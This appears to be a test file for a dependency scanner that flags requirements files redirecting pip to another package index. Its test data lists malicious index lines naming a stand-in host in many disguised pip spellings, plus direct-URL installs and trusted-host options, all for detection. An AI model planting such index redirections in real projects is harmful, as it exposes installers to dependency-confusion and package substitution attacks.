import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BytesSource } from '../src/bytes/byte-source.ts';
import { scanSource } from '../src/index.ts';

const told = async (text: string, path = 'requirements.txt'): Promise<string[]> => {
  const { detections } = await scanSource(path, new BytesSource(Buffer.from(`${text}\nnumpy==2.0\n`)));
  return detections
    .filter(({ technique }) => technique === 'foreign-index')
    .map(({ location, message }) => `${location.line} ${message}`);
};
const EVIL = 'https://evil.example/simple';

describe('indexes that files of requirements name', () => {
  it('are no matter where they are public', async () => {
    for (const line of [
      '--index-url https://pypi.org/simple',
      '-i https://pypi.org/simple',
      '--extra-index-url https://download.pytorch.org/whl/cu121',
      '--no-index',
      '--require-hashes',
      'left==1.0 --hash=sha256:aa',
      '# -i https://evil.example/simple',
      '-r other.txt',
    ])
      assert.deepEqual(await told(line), [], line);
  });

  it('are told however pip lets them be written', async () => {
    for (const line of [
      `--index-url ${EVIL}`,
      `--index-url=${EVIL}`,
      `-i ${EVIL}`,
      `-i${EVIL}`,
      `--i ${EVIL}`,
      `--extra ${EVIL}`,
      `--extra-index=${EVIL}`,
      `--py ${EVIL}`,
      `-f${EVIL}`,
      `--find ${EVIL}`,
      `--pre --extra-index-url ${EVIL}`,
      `--ext\\ra "${EVIL}"`,
      `--in"dex-url" ${EVIL}`,
      `--index-url \\\n${EVIL}`,
    ])
      assert.deepEqual(await told(line), ['1 takes packages from another index (`evil.example`)'], line);
    assert.equal((await told('--trusted-host pypi.org')).length, 1);
    assert.equal((await told('--trust evil.example')).length, 1);
    assert.equal((await told('--index-url http://pypi.org/simple')).length, 1);
    const kept = 'https://user:word@evil.example/simple';
    assert.doesNotMatch((await told(`-i ${kept}`)).join(), /word/);
    for (const line of [
      '-egit+https://git.example/x#egg=x',
      '--edit=git+https://git.example/x',
      `x @ ${EVIL}/x.whl`,
    ])
      assert.deepEqual(await told(line), ['1 takes a package from an address'], line);
  });

  it('are told in every file that lists requirements', async () => {
    for (const path of [
      'requirements/base.txt',
      'a/requirements/dev.in',
      'dev-requirements.txt',
      'x.zip!requirements/base.txt',
    ])
      assert.equal((await told(`-i ${EVIL}`, path)).length, 1, path);
    assert.equal((await told(`-i ${EVIL}`, 'notes/base.txt')).length, 0);
  });
});
